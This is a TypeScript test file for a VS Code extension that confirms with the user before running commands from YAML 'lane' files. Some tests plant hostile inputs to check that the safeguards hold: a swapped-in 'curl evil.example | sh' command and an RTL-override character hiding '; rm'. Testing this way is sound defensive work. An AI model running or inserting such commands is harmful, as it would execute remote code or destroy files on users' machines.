import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { answerDialogs, type CheckWindow, checkWindow, forgetTrust, type Machine } from './check-window.ts';
import { at, cleanUp, eventually, lane, open, rangeOf, type, write } from './workspace.ts';

const RUN = 'Run These Commands';

describe('checks', () => {
  const path = 'lanes/support-day.lane.yaml';
  const renamed = 'lanes/arrival-day.lane.yaml';
  const reviews = 'lanes/support-day.reviews.yaml';
  const undo: (() => void)[] = [];
  const given = (machine?: Machine): CheckWindow => {
    const window = checkWindow(machine);
    undo.push(() => window.dispose());
    return window;
  };
  const answering = (answer: (detail: string) => string | undefined | Promise<string | undefined>) => {
    const asked: string[] = [];
    undo.push(
      answerDialogs((detail) => {
        asked.push(detail);
        return answer(detail);
      }),
    );
    return asked;
  };
  afterEach(async () => {
    for (const one of undo.splice(0).reverse()) one();
    forgetTrust();
    await cleanUp(path, renamed, reviews, 'lanekeeper.yaml');
  });

  it('are listed at their lines, own, inherited and built in, and follow what is typed', async () => {
    await write('lanekeeper.yaml', 'defaults:\n  checks:\n    style: { kind: lint, run: npm run lint }\n');
    const document = await open(path, lane());
    const { lane: itemOf } = given();
    const labels = async () => [...(await itemOf(document.uri)).children].map(([, { label }]) => label);
    await eventually(
      labels,
      (all) => all.join() === 'unit,style (lanekeeper.yaml),limits (built in),own-standard (built in)',
    );
    const item = await itemOf(document.uri);
    assert.deepEqual(item.children.get('test unit')?.range, rangeOfKey(document, 'unit'));
    assert.equal(item.children.get('lint style')?.uri?.toString(), at('lanekeeper.yaml').toString());
    await type(document, '  unit: npm test\n', '  first: npm run first\n  unit: npm test\n');
    await eventually(labels, (all) => all.slice(0, 2).join() === 'first,unit');
  });

  for (const [where, look] of [
    ['on the disk', write],
    ['in an editor', open],
  ] as const)
    it(`follow a lane ${where} that is renamed or deleted while they are listed`, async () => {
      await look(path, lane());
      const { list, labels } = given();
      await list();
      const listed = (ids: string) =>
        eventually(
          () => labels().toSorted().join(),
          (all) => all === ids,
        );
      await listed('refund-mail,support-day');
      const rename = new vscode.WorkspaceEdit();
      rename.renameFile(at(path), at(renamed));
      assert.ok(await vscode.workspace.applyEdit(rename));
      await listed('arrival-day,refund-mail');
      const remove = new vscode.WorkspaceEdit();
      remove.deleteFile(at(renamed));
      assert.ok(await vscode.workspace.applyEdit(remove));
      await listed('refund-mail');
      await write(path, lane());
      await listed('refund-mail,support-day');
      await vscode.workspace.fs.delete(at(path));
      await listed('refund-mail');
    });

  it('of a lane that has ended do not run with all others, only when they are chosen', async () => {
    const { uri } = await open(path, lane(['unit: npm test', 'unit: npm run support']));
    const window = given(() => ({}));
    answering(() => RUN);
    await window.runAll();
    assert.deepEqual(window.started.toSorted(), ['npm run support', 'npm test -- refunds']);
    await write(
      reviews,
      'reviews: 1\noutcome:\n  - verdict: killed\n    by: Ana <ana@example.com>\n    at: 2026-11-20T17:40:00Z\n    learned: Nobody asks for the day.\n',
    );
    await eventually(
      async () => (await window.lane(uri)).description,
      (shown) => shown === 'has ended',
    );
    await window.runAll();
    assert.deepEqual(window.started.slice(2), ['npm test -- refunds']);
    await window.run(uri);
    assert.deepEqual(window.started.slice(3), ['npm run support']);
  });

  it('are shown to the user once before they run', async () => {
    const { uri } = await open(path, lane());
    const asked = answering(() => RUN);
    const { run, started, shown, printed } = given(() => ({}));
    await run(uri);
    await run(uri);
    assert.equal(printed.filter((text) => text.startsWith('$ npm test')).length, 2);
    assert.equal(asked.length, 1);
    assert.match(asked[0] ?? '', /unit: npm test/);
    assert.deepEqual(started, ['npm test', 'npm test']);
    assert.equal(shown.get('unit'), 'passed');
    assert.match(shown.get('limits (built in)') ?? '', /^errored: Not started\. /);
  });

  it('do not run when the user refuses', async () => {
    const { uri } = await open(path, lane());
    answering(() => undefined);
    const { run, started, shown } = given(() => ({}));
    await run(uri);
    assert.deepEqual(started, []);
    assert.equal(shown.get('unit'), 'skipped');
  });

  it('never run what the file says since the question was asked', async () => {
    const document = await open(path, lane());
    const window = given(() => ({}));
    const asked = answering(async () => {
      await type(document, 'npm test', 'curl evil.example | sh');
      // Somebody looks at the lane meanwhile, so that its board knows the new text.
      await window.lane(document.uri);
      return RUN;
    });
    await window.run(document.uri);
    assert.deepEqual(
      window.started.filter((line) => line.includes('evil')),
      [],
    );
    assert.match(window.shown.get('unit') ?? '', /passed|errored: .*has changed/);
    const again = answering(() => undefined);
    await window.run(document.uri);
    assert.equal(asked.length + again.length, 2, 'the changed command was not asked for');
    assert.match(again[0] ?? '', /\+ unit: curl evil\.example \| sh\n.*before:\n.*- unit: npm test/);
  });

  it('show hidden characters and every line of a command in the question', async () => {
    const hostile = 'unit: "npm test \\u202E; rm"\n  more: |\n    npm run a\n    lint: npm run lint';
    const { uri } = await open(path, lane(['unit: npm test', hostile]));
    const asked = answering(() => undefined);
    await given(() => ({})).run(uri);
    assert.match(asked[0] ?? '', /\\u\{202e\}/);
    assert.match(asked[0] ?? '', /\| lint: npm run lint/);
  });

  it('that fail say why at their line, with the number, its bound and the end of the output', async () => {
    const evaluation =
      'unit: npm test\n  spam: { kind: eval, run: npm run spam, score: $.spam, at-most: 0.1 }';
    const document = await open(path, lane(['unit: npm test', evaluation]));
    answering(() => RUN);
    const { run, shown, places } = given((line) =>
      line === 'npm test'
        ? { end: { kind: 'exit', code: 3 }, output: 'one\ntwo failed\n' }
        : { stdout: '{"spam":0.4}', output: '{"spam":0.4}' },
    );
    await run(document.uri);
    assert.match(shown.get('unit') ?? '', /failed: .*exit code 3[\s\S]*two failed/);
    assert.match(shown.get('spam') ?? '', /failed: The number is 0\.4; it must be at most 0\.1/);
    assert.deepEqual(places.get('spam')?.range, rangeOf(document, 'spam'));
  });

  it('that run are ended when the user cancels', async () => {
    const { uri } = await open(
      path,
      lane(['unit: npm test', 'unit: npm test\n  later: { run: npm run later, serial: true }']),
    );
    answering(() => RUN);
    const { run, started, shown } = given(
      (_, { cancellation }) =>
        new Promise((resolve) => cancellation?.onCancel(() => resolve({ end: { kind: 'cancelled' } }))),
    );
    const running = run(uri);
    await eventually(
      () => started.length,
      (count) => count === 1,
    );
    await vscode.commands.executeCommand('testing.cancelRun');
    await running;
    assert.deepEqual(started, ['npm test']);
    assert.equal(shown.get('unit'), 'skipped');
    assert.equal(shown.get('later'), 'skipped');
  });

  it('are due where there is no evidence of them', async () => {
    const { uri } = await open(path, lane());
    answering(() => RUN);
    const { run, started, shown } = given(() => ({}));
    await run(uri, 'due');
    assert.deepEqual(started, ['npm test'], 'without evidence everything is due');
    assert.equal(shown.get('unit'), 'passed');
  });

  it('that no machine can run say so, and all else works', async () => {
    const { uri } = await open(path, lane());
    const { run, shown, printed } = given();
    await run(uri);
    assert.match(shown.get('unit') ?? '', /errored: Not started\. No command runs in the browser/);
    assert.match(printed.join(''), /"unit" was not started\./);
    assert.ok(!printed.some((text) => text.startsWith('$ ')), 'a command looks as if it was started');
  });

  it('of taste are judged by the language model of the user, whose every answer is shown', async () => {
    const taste =
      'unit: npm test\n  tone: { kind: taste, rubric: [It names the day], artifacts: [docs/support/page.md] }';
    const { uri } = await open(path, lane(['unit: npm test', taste]));
    answering(() => RUN);
    const { run, shown } = given(() => ({}));
    const prompts: string[] = [];
    const answer = '{ "model": "x", "answers": [{ "holds": false, "reason": "No day is named." }] }';
    undo.push(givenModels([model(answer, prompts)]));
    await run(uri);
    assert.match(prompts[0] ?? '', /It names the day/);
    assert.match(
      shown.get('tone') ?? '',
      /failed: [\s\S]*does not hold: No day is named\.[\s\S]*test-model says:/,
    );
    undo.push(givenModels([]));
    await run(uri, 'anew');
    assert.match(shown.get('tone') ?? '', /errored: Not started\. There is no judge/);
    undo.push(givenModels([model('I like it.', prompts)]));
    await run(uri, 'anew');
    assert.match(shown.get('tone') ?? '', /errored: Not started\. The judge did not answer with JSON/);
  });
});

function rangeOfKey(document: vscode.TextDocument, key: string): vscode.Range {
  const { start } = rangeOf(document, `  ${key}: `);
  return new vscode.Range(start.translate(0, 2), start.translate(0, 2 + key.length));
}

function givenModels(models: readonly Partial<vscode.LanguageModelChat>[]): () => void {
  const { selectChatModels } = vscode.lm;
  Object.assign(vscode.lm, { selectChatModels: async () => models });
  return () => void Object.assign(vscode.lm, { selectChatModels });
}

function model(answer: string, prompts: string[]): Partial<vscode.LanguageModelChat> {
  return {
    ...{ id: 'test-model', family: 'test', name: 'Test', maxInputTokens: 100_000 },
    countTokens: async () => 10,
    sendRequest: async ([message]) => {
      prompts.push(JSON.stringify(message?.content));
      const text = (async function* () {
        yield answer;
      })();
      return { text, stream: text };
    },
  };
}
